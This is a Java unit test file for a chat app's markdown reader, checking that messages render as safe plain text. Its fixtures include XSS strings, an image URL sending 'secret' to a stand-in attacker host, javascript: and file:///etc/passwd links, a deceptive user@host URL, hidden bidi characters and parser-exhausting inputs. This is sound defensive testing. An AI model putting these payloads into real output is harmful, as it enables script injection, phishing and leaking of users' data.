package app.larder.chat.view;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import app.larder.chat.view.Block.Mark;
import app.larder.chat.view.Block.Run;
import java.net.URI;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Messages are read as pieces of plain text, whatever they are. */
class MarkdownReaderTest {

    private static final MarkdownReader READER = new MarkdownReader();

    private static Run run(String text, Mark... marks) {
        return new Run(text, Set.of(marks), null);
    }

    private static String words(String markdown) {
        return PlainText.of(READER.read(markdown));
    }

    private static Stream<Run> runs(List<Block> blocks) {
        return blocks.stream().flatMap(block -> switch (block) {
            case Block.Prose prose -> prose.runs().stream();
            case Block.Quote quote -> runs(quote.blocks());
            case Block.Items items -> items.items().stream().flatMap(MarkdownReaderTest::runs);
            case Block.Table table -> table.rows().stream().flatMap(List::stream).flatMap(List::stream);
            case Block.Code _, Block.Rule _ -> Stream.of();
        });
    }

    @Test
    void everydayAnswersAreUnderstood() {
        assertEquals(
                List.of(
                        new Block.Prose(2, List.of(run("Soup"))),
                        new Block.Prose(0, List.of(run("Chop "), run("two", Mark.BOLD), run(" onions"))),
                        new Block.Items(3, List.of(
                                List.of(new Block.Prose(0, List.of(run("boil")))),
                                List.of(new Block.Prose(0, List.of(run("skim", Mark.ITALIC)))))),
                        new Block.Code("1 : 2")),
                READER.read("## Soup\n\nChop **two**\nonions\n\n3. boil\n4. *skim*\n\n```\n1 : 2\n```\n"));
    }

    @Test
    void tablesHaveTheirHeadFirst() {
        Block.Table table = (Block.Table) READER.read("| a | b |\n|---|---|\n| 1 | 2 |").getFirst();
        assertEquals(List.of(List.of(List.of(run("a")), List.of(run("b"))), List.of(List.of(run("1")), List.of(run("2")))), table.rows());
    }

    @Test
    void tagsStayTextAndPicturesAreTheirDescription() {
        assertEquals("a <b>b</b> <img src=x onerror=alert(1)>", words("a <b>b</b> <img src=x onerror=alert(1)>"));
        assertEquals("<script>alert(1)</script>", words("<script>alert(1)</script>").strip());
        List<Run> runs = runs(READER.read("![a pot](http://evil.example/?q=secret) [![x](http://a.example/b)](http://c.example)")).toList();
        assertEquals(List.of("a pot", " ", "x"), runs.stream().map(Run::text).toList());
        assertTrue(runs.stream().allMatch(r -> r.link() == null), "a picture leads nowhere");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "mailto:a@b.example", "//evil.example", "relative",
        "https://bank.example@evil.example/", "http://", "larder:delete", "jar:http://evil.example!/x", "\\\\evil\\share"
    })
    void linksLeadToTheWebOrNowhere(String destination) {
        assertTrue(runs(READER.read("[press](<" + destination + ">)")).allMatch(run -> run.link() == null), destination);
    }

    @Test
    void aLinkKeepsItsRealAddressWhateverItSays() {
        Run link = runs(READER.read("[https://bank.example](https://evil.example/x)")).findFirst().orElseThrow();
        assertEquals("https://bank.example", link.text());
        assertEquals(URI.create("https://evil.example/x"), link.link());
    }

    @Test
    void marksThatTurnOrHideTextAreLeftOut() {
        assertEquals("abcdef g", words("a\u202Eb\u2066c\u200Bd\uFEFFe\u00ADf\u0000 \uDB40\uDC41g\u0007"));
    }

    static Stream<String> hostile() {
        int n = 20_000;
        return Stream.of(
                ">".repeat(n) + "x",
                "- ".repeat(n) + "x",
                "*a ".repeat(n),
                "**".repeat(n) + "a" + "**".repeat(n),
                "[".repeat(n) + "a" + "](b)".repeat(n),
                "![".repeat(n) + "a" + "](b)".repeat(n),
                "`".repeat(n) + "a",
                "<".repeat(n),
                "|a".repeat(n) + "\n" + "|-".repeat(n) + "\n" + "|b".repeat(n),
                "[a]: b\n".repeat(n) + "[a]".repeat(n),
                "a\n".repeat(n),
                "&#0;&#x202e;&amp;".repeat(n),
                "x".repeat(500_000));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void whatIsBuiltToKeepItBusyIsReadAllTheSame(String text) {
        assertFalse(READER.read(text).isEmpty());
    }

    @Test
    void theCaretComesAfterTheLastWord() {
        List<Block> blocks = Caret.after(READER.read("a\n\n- b\n- c"));
        assertEquals(List.of("a", "b", "c", "▍"), runs(blocks).map(Run::text).toList());
        assertEquals(1, Caret.after(List.of()).size());
        assertEquals(2, Caret.after(READER.read("```\nx\n```")).size());
    }
}
